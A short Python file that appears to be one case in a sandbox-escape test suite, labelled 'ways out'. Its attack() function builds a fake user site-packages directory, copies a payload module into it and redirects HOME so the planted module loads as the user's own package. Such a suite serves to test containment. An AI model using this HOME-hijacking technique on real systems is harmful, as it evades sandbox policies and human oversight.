"""HOME is planted: a granted package seems to be the user's own."""
CATEGORY = "ways out"
REACH = "net"
POLICIES = ("allow", "baseline")
POLICY = {"socket": ["good", "later"]}
GRANT = {"run": False}

import os
import shutil

from . import payload


def attack():
    path = payload.ROOT + f"/tmp/.local/lib/{payload.LIBRARY}/site-packages"
    os.makedirs(path)
    shutil.copy(os.path.dirname(__file__) + "/payload.py",
                path + "/later.py")
    os.environ["HOME"] = payload.ROOT + "/tmp"
